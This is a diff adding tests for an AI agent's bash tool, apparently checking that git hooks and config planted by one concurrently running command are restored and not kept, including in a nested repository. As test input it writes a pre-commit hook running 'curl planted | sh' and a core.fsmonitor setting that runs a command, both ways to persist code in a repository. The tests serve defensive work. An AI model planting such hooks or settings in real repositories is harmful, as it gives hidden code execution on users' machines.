@@ -1,9 +1,9 @@
-import { readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { bashTool } from '../../../src/tools/bash.js';
 import { bashReadonlyTool } from '../../../src/tools/bash-readonly.js';
-import { createProject, testSettings, toolContext, type Project } from './support/project.js';
+import { createProject, git, testSettings, toolContext, type Project } from './support/project.js';
 
 let project: Project;
 beforeEach(() => {
@@ -90,5 +90,58 @@ describe('fail closed', () => {
     } finally {
       process.env.PATH = path;
     }
+  });
+});
+
+describe('two bash commands on one repository at once', () => {
+  it('never keeps a hook or config one planted as the original the other puts back', { timeout: 60_000 }, async () => {
+    // As the sandbox could not block them (it is disabled here): A plants a hook and a setting and
+    // holds until B runs, so B's snapshot is taken after A planted; B ends after A.
+    const settings = testSettings({ sandboxEnabled: false });
+    const config = join(project.root, '.git', 'config');
+    const hook = join(project.root, '.git', 'hooks', 'pre-commit');
+    const before = readFileSync(config, 'utf8');
+    const waitFor = (name: string) => `t = time.time()\nwhile not os.path.exists('${name}') and time.time() - t < 30: time.sleep(0.02)`;
+    const plant = [
+      'import os, time',
+      "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\\\ncurl planted | sh\\\\n')",
+      "open('.git/config', 'a').write('[core]\\\\n\\\\tfsmonitor = touch /tmp/planted\\\\n')",
+      "open('planted', 'w').write('')",
+      waitFor('b-runs'),
+    ].join('\n');
+    const a = bash(`python3 -c "${plant}"`, settings);
+    const planted = join(project.root, 'planted');
+    for (let waited = 0; !existsSync(planted) && waited < 30_000; waited += 20) await new Promise((resolve) => setTimeout(resolve, 20));
+    expect(existsSync(planted)).toBe(true);
+    const b = bash(`python3 -c "import os, time\nopen('b-runs', 'w').write('')\ntime.sleep(0.5)\n${waitFor('a-ended')}"`, settings);
+    const first = await a;
+    expect(first.metadata.restored_protected_files).toEqual([config, hook]);
+    writeFileSync(join(project.root, 'a-ended'), '');
+    const second = await b;
+    expect(existsSync(hook)).toBe(false);
+    expect(readFileSync(config, 'utf8')).toBe(before);
+    // B found the files as they were before A, so it had nothing to put back.
+    expect(second.metadata.restored_protected_files).toBeUndefined();
+  });
+
+  it('leaves no hook planted in a nested repository by a command whose sandbox let it write there', { timeout: 60_000 }, async () => {
+    const sub = join(project.root, 'sub');
+    git(project.root, 'init', '-q', 'sub');
+    const hook = join(sub, '.git', 'hooks', 'pre-commit');
+    // The first command takes the census, with `sub` in it, as the user left it.
+    expect((await bash('ls')).error).toBe('');
+    const waitFor = (name: string) => `t = time.time()\nwhile not os.path.exists('${name}') and time.time() - t < 30: time.sleep(0.02)`;
+    // A runs in the outer repository: `sub`'s hooks are not among its protected paths, so it can
+    // plant one; B runs in `sub` and takes its snapshot meanwhile.
+    const plant = ['import os, time', "open('sub/.git/hooks/pre-commit', 'w').write('#!/bin/sh\\\\ncurl planted | sh\\\\n')", "open('planted', 'w').write('')", waitFor('b-runs')].join('\n');
+    const a = bash(`python3 -c "${plant}"`);
+    const planted = join(project.root, 'planted');
+    for (let waited = 0; !existsSync(planted) && waited < 30_000; waited += 20) await new Promise((resolve) => setTimeout(resolve, 20));
+    expect(existsSync(planted)).toBe(true);
+    const b = bashTool.execute(bashTool.parameters.parse({ command: `python3 -c "import os, time\nopen('../b-runs', 'w').write('')\n${waitFor('../a-ended')}"`, cwd: 'sub', timeout: 60 }), toolContext(project));
+    await a;
+    writeFileSync(join(project.root, 'a-ended'), '');
+    await b;
+    expect(existsSync(hook)).toBe(false);
   });
 });
